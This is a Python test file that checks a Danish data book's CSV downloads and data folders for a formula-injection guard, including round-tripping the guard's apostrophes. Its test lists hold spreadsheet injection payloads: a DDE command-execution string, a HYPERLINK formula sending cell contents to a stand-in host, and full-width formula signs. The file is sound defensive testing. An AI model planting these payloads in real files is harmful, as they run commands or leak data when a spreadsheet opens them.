"""Every CSV the book serves is safe in a spreadsheet in any locale.

A Danish spreadsheet splits a CSV on semicolons, an English one on commas, and a careless import on both, quotes
or not. Each download is read here all four ways (the csv module with either delimiter, and a plain split on
either), and no cell may begin like a formula (=, +, -, @, tab, carriage return).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import shutil
from pathlib import Path
from urllib.parse import unquote

import pandas as pd
import pytest
from bs4 import BeautifulSoup

from kulturensrige import load
from kulturensrige.book import page_source, profiles
from kulturensrige.book.extension import write_downloads
from kulturensrige.data import folder_writing, refiqda
from kulturensrige.data.csv_reading import FORMULA_GUARD_RULE, read_csv
from kulturensrige.data.loading import Dataset
from kulturensrige.data.publishing import published_files
from kulturensrige.data.schema import TABLES
from kulturensrige.render import lists
from kulturensrige.render.markup import CSV_PAGE
from kulturensrige.words import FORMULA_START, csv_text, formula_guarded, formula_unguarded, is_guarded_csv, spreadsheet_csv
from support.checks import each
from support.scripts import REPO, run_script

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://eksempel.invalid/?x="&A1,"klik")',
    "Sjælland,=1+2,x",
    "a;+1;b",
    "Køge;@SUM(A1:A9)",
    "-2+3",
    "\tfane",
    "\rvogn",
    'sagde "ja",=1',
    "ren tekst, med komma; og semikolon",
    "Se\t=1+1",
]
CSV_HREF = re.compile(r'href="data:text/csv;charset=utf-8,([^"]*)"')


def cells_every_way(text: str) -> list[str]:
    """Every cell a spreadsheet could make of the text: csv with ',', ';' or a tab, and a plain split on any of them."""
    text = text.removeprefix("\ufeff")
    cells = []
    for delimiter in ",;\t":
        cells += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
        cells += [part.lstrip('"') for line in re.split(r"\r\n|\n", text) for part in line.split(delimiter)]
    return cells


def formulas(text: str) -> list[str]:
    return [cell for cell in cells_every_way(text) if cell.startswith(FORMULA_START)]


def test_the_test_sees_a_formula_in_an_unguarded_csv():
    """The reading itself works: a plain semicolon CSV of the same cells is caught."""
    plain = "\r\n".join(";".join(f'"{v}"' if "," in v else v for v in pair) for pair in zip(HOSTILE, HOSTILE, strict=True))
    assert formulas(plain)


def test_a_table_download_holds_no_formula_read_with_either_delimiter():
    text = csv_text(["Kolonne", "Anden"], [[value, value] for value in HOSTILE])
    assert formulas(text) == []
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert len(rows) == len(HOSTILE) + 1 and all(len(row) == 2 for row in rows), "comma-separated, one cell per value"
    assert [row[0].replace("'", "") for row in rows[1:]] == [v.replace("'", "") for v in HOSTILE], "only apostrophes added"


def test_the_published_data_tables_are_comma_separated_and_guarded(tmp_path: Path):
    """The tables the pages link to ("Sådan er siden lavet"), from a data folder with formulas in its texts."""
    files = {}
    for table in TABLES.values():
        values = [HOSTILE[i % len(HOSTILE)] for i in range(len(table.columns))]
        buffer = io.StringIO(newline="")
        csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows([table.columns, values])  # as data/ has a lone CR
        files[table.file] = buffer.getvalue()
    write_downloads(files, tmp_path / "published")
    for table in each(TABLES.values()):
        text = (tmp_path / "published" / table.file).read_text(encoding="utf-8")
        assert formulas(text) == [], table.file
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
        assert rows[0] == table.columns and len(rows[1]) == len(table.columns), table.file


def test_spreadsheet_csv_keeps_every_row_and_cell():
    assert spreadsheet_csv('a,b\n"x\ny",=1\n') == '\ufeff"a","b"\r\n"x\ny",\'=1\r\n'


@pytest.mark.browser
def test_every_download_in_the_built_book_holds_no_formula(built_site: Path):
    """The table downloads in the pages (data: addresses) and the data tables beside them, as built."""
    downloads = 0
    for page in built_site.rglob("*.html"):
        for found in CSV_HREF.finditer(page.read_text(encoding="utf-8")):
            text = unquote(found.group(1))
            assert formulas(text) == [], page
            assert text.splitlines()[0].count(",") >= 1, f"{page}: not comma-separated"
            downloads += 1
    for path in (built_site / "_static" / "data").glob("*.csv"):
        assert formulas(path.read_text(encoding="utf-8")) == [], path
        downloads += 1
    assert downloads > len(TABLES)


def test_the_qda_code_map_guards_a_formula_name_and_reads_it_back(data, tmp_path: Path):
    ingredients = data.ingredients.copy()
    ingredients.loc[0, "name"] = '=HYPERLINK("http://eksempel.invalid/","x")'
    ingredients.loc[1, "name"] = "+1+1;-3"
    hostile = dataclasses.replace(data, tables={**data.tables, "ingredients": ingredients})
    text = refiqda.code_map_text(hostile)
    assert formulas(text) == []
    (tmp_path / "koder.csv").write_text(text, encoding="utf-8")
    mapping = refiqda.read_code_map(tmp_path / "koder.csv", ingredients["ingredient_id"])
    for name, ingredient in each(zip(ingredients["name"], ingredients["ingredient_id"], strict=True)):
        assert mapping[" ".join(name.split()).casefold()] == (ingredient,)


@pytest.mark.browser
def test_every_table_download_in_the_built_book_says_how_to_open_it_in_a_danish_excel(built_site: Path):
    """A Danish Excel opens a comma-separated file in one column; the format stays (UTF-8, commas, the documented
    header), and the line under each 'Hent tabellen som CSV' says how to open it so that the columns split."""
    lines = [
        (page, line)
        for page in built_site.rglob("*.html")
        if "_static" not in page.parts
        for line in BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser").select(".kr-csv-line")
    ]
    assert len(lines) > 10
    for page, line in each(lines):
        said = " ".join(line.get_text(" ", strip=True).split())
        assert said.startswith("Hent tabellen som CSV"), page
    # Once a page, open, in the line over its foot: under the first download in view it stood between the charts
    # (four figures on kommuner/sammenligning, reader32 #4; ADR 123 changes ADR 90's once-at-the-first-download).
    assert not [page for page, line in lines if "Data › Fra tekst/CSV" in line.get_text()]
    for page in each(sorted({page for page, _ in lines})):
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        said = [p for p in soup.select("p") if "Data › Fra tekst/CSV" in p.get_text()]
        assert [" ".join(p.get_text().split()) for p in said] == [CSV_PAGE], page
        assert said[0].find_parent("details") is None and said[0].find_next("details")["class"] == ["kr-made"], page
        assert not said[0].find_all_next(class_="kr-csv-line"), page


def test_a_page_says_how_to_open_its_downloads_in_excel_once_at_its_end_and_never_under_a_chart(data):
    """Reader32, #4: „Filen er kommasepareret. I Excel åbner du den med …“ stood under a page's first download, between
    its charts. Each download keeps its line; the Excel tip stands once, open, over the page's foot „Sådan er siden
    lavet“, and only on a page with a download."""
    with profiles.as_page(REPO / "book", "kommuner/oversigt"):
        downloads = [str(lists.municipality_table(data)), str(lists.municipality_table(data))]
        foot = str(page_source.how_made(data))
        bare_foot = str(page_source.how_made(data))  # the next page, which offers no download
    lines = [line for html in downloads for line in BeautifulSoup(html, "html.parser").select(".kr-csv-line")]
    assert len(lines) == 2 and all(line.get_text().startswith("Hent tabellen som CSV") for line in lines)
    assert not [line for line in lines if "Fra tekst/CSV" in line.get_text()]
    soup = BeautifulSoup(foot, "html.parser")
    said = [p for p in soup.select("p") if "Fra tekst/CSV" in p.get_text()]
    assert [p.get_text() for p in said] == [CSV_PAGE] and said[0].find_parent("details") is None
    assert "Fra tekst/CSV" not in bare_foot


# Texts that begin like a formula, with apostrophes of their own before one, or with the guard's split characters.
GUARD_LOOKALIKES = ["=1+2", "'=med sin egen apostrof", "''@to apostroffer", "Sjælland,'-b;+c", "'ord i apostroffer'", "-"]


def test_the_books_data_downloads_read_back_as_a_data_folder_give_the_values_published(data, tmp_path: Path):
    """An analyst downloads the tables, edits them and reads them in as a data folder: the guard's apostrophes come
    off, exactly the ones the publisher added (hostile round 10, #11: the quotes came back as '=…), as the files'
    quoted headers say they carry it. A data folder a command writes carries the same guard and mark (ADR 80): read
    back, it gives every text as written, apostrophes of its own included."""
    texts = [*GUARD_LOOKALIKES, *(v.strip() for v in HOSTILE)]
    quotes = data.quotes.copy()
    quotes.loc[quotes.index[: len(texts)], "text"] = texts
    published = published_files(
        dataclasses.replace(data, tables={**data.tables, "quotes": quotes, "report_slips": no_slips_in_quotes(data)})
    )
    write_downloads(published, tmp_path / "hentet")
    back = load(tmp_path / "hentet").quotes.set_index("quote_id")["text"]
    assert back.to_dict() == quotes.set_index("quote_id")["text"].to_dict()
    (tmp_path / "mappe.csv").write_text(folder_writing.csv_text(["tekst"], [[t] for t in texts]), encoding="utf-8")
    raw, problems = read_csv(tmp_path / "mappe.csv", "mappe.csv")
    assert problems == [] and list(raw.frame["tekst"]) == texts


def no_slips_in_quotes(data: Dataset) -> pd.DataFrame:
    """data's report_slips without those in quotes: a test that writes its own texts over the quotes writes over the
    report's slips in them too (ADR 89), and the validator refuses a slip its quote no longer holds."""
    return data.report_slips[data.report_slips["table"] != "quotes"]


# An analyst's own cells, as a report can hold them: a quote that opens with an apostrophe before a dash or a sign.
ANALYSTS_APOSTROPHES = ["'-Ja, det gjorde vi.", "'=1", "Sjælland,'+b", "'@alle", "a;'-b", "''=to"]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_an_analysts_csv_keeps_its_apostrophes_before_a_formula_start(delimiter: str, tmp_path: Path):
    """Issue 25: the guard was taken off every file read, so an analyst's quote '-Ja, … lost its apostrophe without a
    word. A file the book did not write (its header not quoted name by name) is read as it stands."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows([["tekst", "nr"], *([t, "1"] for t in ANALYSTS_APOSTROPHES)])
    (tmp_path / "egen.csv").write_text("\ufeff" + buffer.getvalue(), encoding="utf-8")
    raw, problems = read_csv(tmp_path / "egen.csv", "egen.csv")
    assert problems == [] and list(raw.frame["tekst"]) == ANALYSTS_APOSTROPHES


def test_a_csv_the_book_wrote_says_so_in_its_header_and_only_its_guard_comes_off(tmp_path: Path):
    """The mark is the header's quoted names: the same cells under a plain header keep what the guard added."""
    text = csv_text(["tekst"], [[t] for t in ANALYSTS_APOSTROPHES])
    assert text.startswith('\ufeff"tekst"\r\n') and is_guarded_csv(text)
    (tmp_path / "hentet.csv").write_text(text, encoding="utf-8")
    (tmp_path / "uden-maerke.csv").write_text(text.replace('"tekst"', "tekst", 1), encoding="utf-8")
    assert list(read_csv(tmp_path / "hentet.csv", "hentet.csv")[0].frame["tekst"]) == ANALYSTS_APOSTROPHES
    plain = list(read_csv(tmp_path / "uden-maerke.csv", "uden-maerke.csv")[0].frame["tekst"])
    assert plain == [formula_guarded(t) for t in ANALYSTS_APOSTROPHES] != ANALYSTS_APOSTROPHES


def _r_write_csv(rows: list[list[str]]) -> str:
    """A table as R's write.csv writes it: every header name and every text in double quotes, '\\n' line ends."""
    return "".join(",".join('"' + cell.replace('"', '""') + '"' for cell in row) + "\n" for row in rows)


def _pandas_quote_all(rows: list[list[str]]) -> str:
    """A table as pandas' to_csv(quoting=csv.QUOTE_ALL) writes it."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
    return buffer.getvalue()


@pytest.mark.parametrize("writer", [_r_write_csv, _pandas_quote_all])
def test_a_csv_with_every_header_name_quoted_by_another_tool_keeps_its_apostrophes(writer, tmp_path: Path):
    """sec25d #1: R's write.csv and pandas' QUOTE_ALL quote every header name, as the book's mark was; their files were
    taken for the book's downloads, and a quote '-Ja, … lost its apostrophe without a word. The mark now begins with
    the byte order mark the book writes and neither of them does."""
    (tmp_path / "r.csv").write_text(writer([["tekst", "nr"], *([t, "1"] for t in ANALYSTS_APOSTROPHES)]), encoding="utf-8")
    raw, problems = read_csv(tmp_path / "r.csv", "r.csv")
    assert problems == [] and list(raw.frame["tekst"]) == ANALYSTS_APOSTROPHES


def test_a_csv_whose_guard_comes_off_says_so_in_one_line_naming_its_cells(data, tmp_path: Path):
    """sec25d #1: a file marked as the book's loses the guard's apostrophes; a tool that faked the mark would lose an
    analyst's own, so the check says which cells, in one line per file, whoever wrote the mark."""
    quotes = data.quotes.copy()
    quotes.loc[quotes.index[:5], "text"] = ["=1+2", "-Ja", "'-egen", "+4", "@alle"]
    write_downloads(
        published_files(dataclasses.replace(data, tables={**data.tables, "quotes": quotes, "report_slips": no_slips_in_quotes(data)})),
        tmp_path / "hentet",
    )
    notices = [str(w) for w in load(tmp_path / "hentet").warnings if "formelværnets apostrof" in str(w)]
    expected = (
        "hentet/quotes.csv — formelværnets apostrof foran =, +, -, @, tabulator eller vognretur er taget af i 5 celler "
        "(række 2, kolonne text; række 3, kolonne text; række 4, kolonne text og 2 til), da filen er mærket som skrevet "
        "af bogen eller dens kommandoer (byte order mark og hvert kolonnenavn i dobbelte anførselstegn); er den ikke det, "
        "så gem den uden anførselstegn om kolonnenavnene, så beholder cellerne deres apostrof"
    )
    assert notices == [expected]


# A text with paragraph breaks (the field diary's), each line beginning like a formula.
LINES = "Første afsnit\n=cmd|' /C calc'!A0\r\n-2+3\r@SUM(A1)\n\n+1\n'=egen"


def test_a_formula_after_a_line_break_in_a_cell_is_guarded_and_reads_back(tmp_path: Path):
    """sec25d's hostile round: a quote with the field diary's paragraph break served '=cmd|…' at the start of a line of
    quotes.csv. A spreadsheet that splits on semicolons does not see the comma-separated file's quotes, so each line of
    the cell began a row of its own, with the formula in its first cell."""
    text = csv_text(["tekst", "nr"], [[LINES, "1"]])
    assert formulas(text) == []
    (tmp_path / "hentet.csv").write_text(text, encoding="utf-8")
    assert list(read_csv(tmp_path / "hentet.csv", "hentet.csv")[0].frame["tekst"]) == [LINES]


# The full-width and small forms of = + - @: the same signs to Unicode's compatibility mapping (hostile review 20, #6).
WIDE_FORMULAS = ["＝1+1", "＋1", "－2+3", "＠SUM(A1:A9)", "﹦1", "﹢1", "﹣1", "﹫x", "Sjælland,＝1+2", "a;＋1", "'＝x"]


def test_a_full_width_or_small_formula_sign_is_guarded_as_its_ascii_sign_and_read_back_whole():
    text = csv_text(["Kolonne"], [[value] for value in WIDE_FORMULAS])
    signs = tuple("＝＋－＠﹦﹢﹣﹫")
    assert [cell for cell in cells_every_way(text) if cell.startswith(signs)] == []
    assert [formula_unguarded(formula_guarded(value)) for value in WIDE_FORMULAS] == WIDE_FORMULAS
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert [row[0] for row in rows[1:3]] == ["'＝1+1", "'＋1"]


# A workbook's texts a spreadsheet would run or that split into a formula: issue 25's list, and a quote that opens with
# an apostrophe of its own before a speech dash (the report's »'-Ja …« form), which must come back with it.
WORKBOOK_TEXTS = [
    '=HYPERLINK("http://eksempel.invalid","klik")',
    "+45 12",
    "-Ja",
    "@x",
    "a;=1+2",
    "'- Ja, det gjorde vi.",
]


def _imported(tmp_path: Path) -> Path:
    """data/ with WORKBOOK_TEXTS as its first quotes, exported to a workbook and imported again as a data folder."""
    folder = Path(shutil.copytree(REPO / "data", tmp_path / "data"))
    slips = folder / "report_slips.csv"
    kept = [r for r in csv.reader(io.StringIO(slips.read_text(encoding="utf-8"), newline="")) if r[2] != "quotes"]
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\n").writerows(kept)  # the quotes' texts below are the test's: no slip of the report's
    slips.write_text(buffer.getvalue(), encoding="utf-8")
    path = folder / "quotes.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    column = rows[0].index("text")
    for row, text in zip(rows[1:], WORKBOOK_TEXTS, strict=False):
        row[column] = text
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\n").writerows(rows)  # as data/ is written: no mark, read as it stands
    path.write_text(buffer.getvalue(), encoding="utf-8")
    assert run_script("export_workbook", "--data", str(folder), "--out", str(tmp_path / "a.xlsx")).returncode == 0
    result = run_script("import_workbook", str(tmp_path / "a.xlsx"), "--out", str(tmp_path / "ud"))
    assert result.returncode == 0, result.stderr
    return tmp_path / "ud"


def test_a_data_folder_a_command_writes_carries_the_guard_and_the_book_shows_the_workbooks_text(tmp_path: Path):
    """Issue 25, item 3, and ADR 80 as amended: `import_workbook` wrote `=HYPERLINK(…)` unguarded into the data folder.
    Every file of the folder it writes is marked as the book's and guarded, read with either delimiter or split plainly
    no cell begins like a formula, and the data the book is built from hold the workbook's texts exactly."""
    imported = _imported(tmp_path)
    for table in each(TABLES.values()):
        text = (imported / table.file).read_bytes().decode("utf-8")
        assert is_guarded_csv(text) and formulas(text) == [], table.file
    quotes = load(imported).quotes
    assert list(quotes["text"][: len(WORKBOOK_TEXTS)]) == WORKBOOK_TEXTS
    notices = [str(w) for w in load(imported).warnings if "formelværnets apostrof" in str(w)]
    assert notices == [
        (
            "ud/quotes.csv — formelværnets apostrof foran =, +, -, @, tabulator eller vognretur er taget af i 6 celler (række "
            "2, kolonne text; række 3, kolonne text; række 4, kolonne text og 3 til), da filen er mærket som skrevet af bogen "
            "eller dens kommandoer (byte order mark og hvert kolonnenavn i dobbelte anførselstegn); er den ikke det, så gem "
            "den uden anførselstegn om kolonnenavnene, så beholder cellerne deres apostrof"
        )
    ]


def test_a_written_data_folder_saved_again_by_a_spreadsheet_names_the_cells_that_kept_the_guards_apostrophe(tmp_path: Path):
    """ADR 28's and ADR 80's cost: a spreadsheet that saves a guarded file again writes its header unquoted, the mark is
    gone, and the guard's apostrophes stay in the values. The check says so in one line, naming the first cells."""
    imported = _imported(tmp_path)
    path = imported / "quotes.csv"
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)  # Excel's "CSV UTF-8": a byte order mark, names unquoted
    path.write_text("\ufeff" + buffer.getvalue(), encoding="utf-8")
    data = load(imported)
    assert list(data.quotes["text"][: len(WORKBOOK_TEXTS)]) == [formula_guarded(t) for t in WORKBOOK_TEXTS]
    notices = [str(w) for w in data.warnings if "ud/quotes.csv" in str(w) and "apostrof" in str(w)]
    assert notices == [
        (
            "ud/quotes.csv — 6 celler (række 2, kolonne text; række 3, kolonne text; række 4, kolonne text og 3 til) har en "
            "apostrof foran =, +, -, @, tabulator eller vognretur i begyndelsen eller efter et komma, semikolon, tabulator "
            "eller linjeskift, og filen er ikke mærket som skrevet af bogen eller dens kommandoer (byte order mark og hvert "
            "kolonnenavn i dobbelte anførselstegn), så apostroffen læses som en del af teksten; har et regneark gemt filen "
            "igen, er det formelværnets apostrof: fjern den, før filen bruges"
        )
    ]
    result = run_script("validate_data", str(imported))
    assert notices[0] in result.stdout + result.stderr


def test_the_rule_and_the_readme_say_which_files_carry_the_guard():
    """hostile25 #2: the rule spoke of "the CSV files the book lets you download" only; ADR 80 as amended guards the data
    folders the commands write, and the rule, the dictionary and the README say so, and that data/ stands as typed."""
    rule = FORMULA_GUARD_RULE
    assert "står med en apostrof foran i hver CSV-fil, bogen eller dens kommandoer skriver" in rule
    assert "og datamappen, som kommandoerne skriver" in rule and "også data/, der er skrevet i hånden" in rule
    assert rule in (REPO / "data" / "DATAORDBOG.md").read_text(encoding="utf-8")
    readme = " ".join((REPO / "README.md").read_text(encoding="utf-8").split())
    assert "Hver CSV-fil med data, som bogen eller en kommando skriver, har formelværnet" in readme
